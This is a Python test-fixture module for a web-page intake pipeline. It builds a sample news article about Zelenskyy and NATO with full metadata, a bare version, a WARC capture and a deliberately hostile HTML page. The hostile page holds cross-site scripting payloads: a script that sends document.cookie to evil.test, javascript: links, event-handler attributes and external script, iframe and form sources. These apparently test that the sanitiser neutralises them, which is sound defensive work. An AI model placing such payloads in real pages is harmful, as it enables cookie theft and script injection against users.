"""Pages the intake tests make: a saved news article as a browser saves it (navigation, cookie
notice, "most read", footer, and its metadata in JSON-LD, Open Graph and meta tags), a WARC
capture of it, a page without metadata, and a page full of hostile payloads."""

from __future__ import annotations

import io
from pathlib import Path

HEADLINE = "Zelenskyy rules out trading territory for NATO membership"
URL = "https://www.example-news.test/world/2024/10/18/zelenskyy-territory-nato"
CAPTURED_URL = URL + "?utm_source=feed"
OUTLET = "Example News"
PUBLISHED = "2024-10-18T09:30:00+03:00"
AUTHOR = "Olena Kovalenko"

BODY = [
    "Ukraine will not give up occupied territory in exchange for an invitation to join NATO, "
    "President Volodymyr Zelenskyy said on Friday.",
    '"We are not discussing this. Our territory is not for sale," Zelenskyy told reporters in Kyiv '
    "after meeting the alliance's secretary general.",
    "He said partners had not made any such offer, but that some of them might be "
    '"testing the waters through the media".',
    '"The invitation is a signal of strength," he said. "The invitation is what we ask for now."',
    "The alliance has said Ukraine's future is in NATO but has not set a date for an invitation.",
]

ARTICLE = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{HEADLINE} | {OUTLET}</title>
<link rel="canonical" href="{URL}">
<meta name="author" content="{AUTHOR}">
<meta property="og:type" content="article">
<meta property="og:title" content="{HEADLINE}">
<meta property="og:site_name" content="{OUTLET}">
<meta property="og:url" content="{URL}">
<meta property="article:published_time" content="{PUBLISHED}">
<script type="application/ld+json">
{{"@context": "https://schema.org", "@type": "NewsArticle", "headline": "{HEADLINE}",
  "datePublished": "{PUBLISHED}", "dateModified": "2024-10-18T11:02:00+03:00",
  "author": [{{"@type": "Person", "name": "{AUTHOR}"}}],
  "publisher": {{"@type": "Organization", "name": "{OUTLET}",
                "logo": {{"@type": "ImageObject", "url": "https://www.example-news.test/logo.png"}}}},
  "mainEntityOfPage": "{URL}"}}
</script>
<script src="https://cdn.example-ads.test/tag.js" async></script>
<link rel="stylesheet" href="/static/site.css">
</head>
<body>
<div id="cookie-banner" class="cookie-consent"><p>We use cookies to improve your experience and to show
you personalised advertising. By clicking "Accept all" you agree to our use of cookies.</p>
<button>Accept all</button> <button>Manage preferences</button></div>
<header class="site-header"><a href="/" class="logo">{OUTLET}</a>
<nav class="main-nav"><ul><li><a href="/world">World</a></li><li><a href="/politics">Politics</a></li>
<li><a href="/business">Business</a></li><li><a href="/opinion">Opinion</a></li>
<li><a href="/subscribe">Subscribe</a></li></ul></nav></header>
<main>
<nav class="breadcrumbs"><a href="/">Home</a> › <a href="/world">World</a> › <a href="/world/europe">Europe</a></nav>
<article>
<h1>{HEADLINE}</h1>
<p class="byline">By <a href="/authors/okovalenko">{AUTHOR}</a> ·
<time datetime="{PUBLISHED}">18 October 2024</time></p>
<figure><img src="/img/kyiv.jpg" alt="Kyiv"><figcaption>Volodymyr Zelenskyy in Kyiv. Photo: Agency</figcaption></figure>
<div class="article-body">
{"".join(f"<p>{p}</p>{chr(10)}" for p in BODY)}</div>
<div class="share"><a href="https://twitter.test/share">Share on X</a> <a href="mailto:?">Email</a></div>
</article>
<aside class="most-read"><h2>Most read</h2><ol>
<li><a href="/a">Ten things you did not know about the Carpathians</a></li>
<li><a href="/b">Markets fall as energy prices climb for a third week</a></li>
<li><a href="/c">Opinion: why the winter will decide the war</a></li></ol></aside>
<section class="newsletter"><h2>Sign up for our morning briefing</h2><p>The day's news in five minutes,
every weekday.</p><form action="/subscribe"><input type="email"><button>Sign up</button></form></section>
</main>
<footer class="site-footer"><p>© 2024 {OUTLET}. All rights reserved.</p>
<ul><li><a href="/privacy">Privacy policy</a></li><li><a href="/terms">Terms of use</a></li>
<li><a href="/contact">Contact us</a></li></ul></footer>
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({{"event": "pageview"}});</script>
</body>
</html>
"""

# The same article with no metadata at all: nothing can be stated.
BARE = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{HEADLINE}</title></head>
<body><nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article><h1>{HEADLINE}</h1>
{"".join(f"<p>{p}</p>{chr(10)}" for p in BODY)}</article>
<footer><p>Contact us</p></footer></body></html>
"""

# Every way a saved page could run code, load something or restyle the dossier.
HOSTILE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hostile page</title>
<meta http-equiv="refresh" content="0; url=https://evil.test/">
<meta property="og:title" content="&lt;script&gt;window.__pwned='og'&lt;/script&gt; Talks">
<meta property="og:site_name" content="Evil &lt;b onmouseover=alert(1)&gt;News">
<link rel="canonical" href="javascript:window.__pwned='canonical'">
<base href="https://evil.test/">
<link rel="stylesheet" href="https://evil.test/x.css">
<style>body { background: url(https://evil.test/bg.png) }</style>
<script>window.__pwned = 'inline'; fetch('https://evil.test/steal?c=' + document.cookie);</script>
<script src="https://evil.test/x.js"></script>
</head>
<body onload="window.__pwned='onload'">
<article><h1>A statement on the talks</h1>
<p>The minister said the talks would go on. <img src=x onerror="window.__pwned='img'"></p>
<p>"We will keep talking," she said. <a href="javascript:window.__pwned='link'">more</a></p>
<p>Officials gave no date for the next round. <svg onload="window.__pwned='svg'"></svg></p>
<iframe src="https://evil.test/frame"></iframe>
<form action="https://evil.test/post"><input name="q"></form>
<object data="https://evil.test/x.swf"></object>
</article></body></html>
"""


def warc_bytes(pages: list[tuple[str, str]], gzip: bool = True) -> bytes:
    """A WARC holding a request and a response record for each (url, html), as a crawler writes."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    out = io.BytesIO()
    writer = WARCWriter(out, gzip=gzip)
    writer.write_record(writer.create_warcinfo_record("capture.warc.gz", {"software": "tests"}))
    for n, (url, html) in enumerate(pages):
        date = f"2024-10-19T08:1{n}:00Z"
        body = html.encode("utf-8")
        request = writer.create_warc_record(
            url,
            "request",
            payload=io.BytesIO(f"GET / HTTP/1.1\r\nHost: {url.split('/')[2]}\r\n\r\n".encode()),
            warc_headers_dict={"WARC-Date": date},
        )
        headers = StatusAndHeaders(
            "200 OK",
            [("Content-Type", "text/html; charset=utf-8"), ("Content-Length", str(len(body)))],
            protocol="HTTP/1.1",
        )
        response = writer.create_warc_record(
            url, "response", payload=io.BytesIO(body), http_headers=headers, warc_headers_dict={"WARC-Date": date}
        )
        writer.write_record(request)
        writer.write_record(response)
    return out.getvalue()


def write(folder: Path) -> dict[str, Path]:
    """The fixture files, written into `folder`, by name."""
    files = {
        "article.html": ARTICLE.encode("utf-8"),
        "bare.html": BARE.encode("utf-8"),
        "hostile.html": HOSTILE.encode("utf-8"),
        "capture.warc.gz": warc_bytes([(CAPTURED_URL, ARTICLE)]),
    }
    out = {}
    for name, data in files.items():
        (folder / name).write_bytes(data)
        out[name] = folder / name
    return out
